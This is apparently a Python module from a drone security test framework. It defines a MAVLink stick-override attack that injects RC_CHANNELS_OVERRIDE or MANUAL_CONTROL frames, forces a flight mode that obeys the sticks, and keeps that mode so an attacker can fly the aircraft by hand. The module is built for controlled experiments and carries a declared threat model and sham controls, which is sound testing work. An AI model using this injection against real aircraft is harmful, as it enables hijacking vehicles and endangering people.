"""Stick override: RC_CHANNELS_OVERRIDE or MANUAL_CONTROL moves the pilot's sticks in a mode that obeys them."""

from __future__ import annotations

from typing import Literal

from skyrange.attack.bases.mavlink.injection import Injection
from skyrange.attack.bases.mavlink.orders import AUTOPILOT, ModeKeeper, Order, stick_message
from skyrange.attack.contract import AttackContext
from skyrange.attack.declaration import attack
from skyrange.attack.presets import CONTROL_LINKS, on_control_link, sham_to_nobody
from skyrange.codec.mavlink import Message
from skyrange.codec.mavlink.flight_modes import COPTER_MODE_NUMBERS
from skyrange.contracts.params import Number
from skyrange.contracts.plugins.fields import param
from skyrange.core.time import NS_PER_S, Time


@attack(
    "mavlink.rc_override",
    technique="T0831",
    surface=CONTROL_LINKS,
    persists="acts",
    effect="the aircraft is flown by hand by the attacker, until its messages end",
    threat=on_control_link(
        "system ids of the aircraft and of the station that it obeys (SYSID_MYGCS)",
        equipment="a computer with a MAVLink library, or a joystick",
        budget="rate_hz frames in a second",
    ),
    controls=sham_to_nobody(
        content="the same frames with sticks in the middle, in the mode of the plan",
        placement="the same frames to another aircraft",
    ),
)
class StickOverride(Injection):
    """Moves the pilot's sticks by messages, in a mode that obeys them."""

    reads = ("HEARTBEAT",)

    message: Literal["RC_CHANNELS_OVERRIDE", "MANUAL_CONTROL"] = param(
        "MAVLink message that carries the stick positions.", default="RC_CHANNELS_OVERRIDE"
    )
    mode: Literal["none", "STABILIZE", "ALT_HOLD", "LOITER"] = param(
        "Mode to change to, in which the sticks fly the aircraft; none leaves it. In AUTO, GUIDED and RTL only the yaw "
        "stick has an effect.",
        default="LOITER",
    )
    forward: Number = param("Pitch stick: 1 is full forward, -1 full back.", default=0.0, ge=-1, le=1)
    right: Number = param("Roll stick: 1 is full right, -1 full left.", default=0.0, ge=-1, le=1)
    throttle: Number = param("Throttle stick: 0 is lowest, 0.5 holds the height.", default=0.5, ge=0, le=1)
    yaw: Number = param("Yaw stick: 1 is full right, -1 full left.", default=0.0, ge=-1, le=1)
    rate_hz: Number = param("Messages in a second.", default=10.0, ge=0.5, le=50)
    keeper: ModeKeeper | None

    def prepare(self, context: AttackContext) -> None:
        """Keep the mode, if one is to be changed to."""
        self.every_s = 1.0 / self.rate_hz
        self.keeper = None if self.mode == "none" else ModeKeeper(COPTER_MODE_NUMBERS[self.mode], NS_PER_S)

    def on_message(self, now: Time, message: Message) -> None:
        """Learn the mode."""
        if self.keeper is not None:
            self.keeper.learn(message)

    def orders(self, now: Time) -> list[Order | Message]:
        """The sticks, and the mode if it is another one."""
        sticks = (self.forward, self.right, self.throttle, self.yaw)
        moved = stick_message(self.target, AUTOPILOT, sticks, self.message == "MANUAL_CONTROL")
        return [moved] if self.keeper is None else [moved, *self.keeper.orders(now)]
